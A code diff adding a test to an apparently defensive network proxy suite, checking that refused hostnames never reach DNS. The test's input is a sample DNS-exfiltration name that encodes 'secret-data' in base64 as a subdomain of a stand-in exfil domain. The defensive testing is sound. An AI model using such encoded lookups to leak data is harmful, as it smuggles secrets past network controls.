@@ -106,6 +106,28 @@ test("the approver is told the address the host would dial for the name", async 
   assert.equal(asked[0]?.address, "127.0.0.1", "the test's resolve override for other.test");
 });
 
+test("a refused name is never looked up in DNS before a decision (no exfiltration by name)", async () => {
+  const asked: RefusedRequest[] = [];
+  const lookedUp: string[] = [];
+  const { p, events } = proxy({
+    onHostRefused: (r) => {
+      asked.push(r);
+      return { allow: false };
+    },
+    resolve4: (name) => {
+      lookedUp.push(name);
+      return Promise.resolve(["127.0.0.1"]);
+    },
+  });
+  const name = "c2VjcmV0LWRhdGE.exfil.example";
+  const res = await guestRequest(p, { name, port: up().httpPort, tls: false });
+  assert.equal(res.status, 403);
+  await settle(events);
+  assert.equal(asked.length, 1, "the request was put to the approver");
+  assert.equal(asked[0]?.address, undefined, "no address without a lookup");
+  assert.deepEqual(lookedUp, [], "the guest's chosen name never reached DNS");
+});
+
 test("a request that would leak a secret is refused as such, never put to the approver", async () => {
   const policy = createHttpPolicy({
     secrets: [{ name: "TOKEN", value: "real-5e6f7a", hosts: [`api.test:${up().httpsPort}`] }],
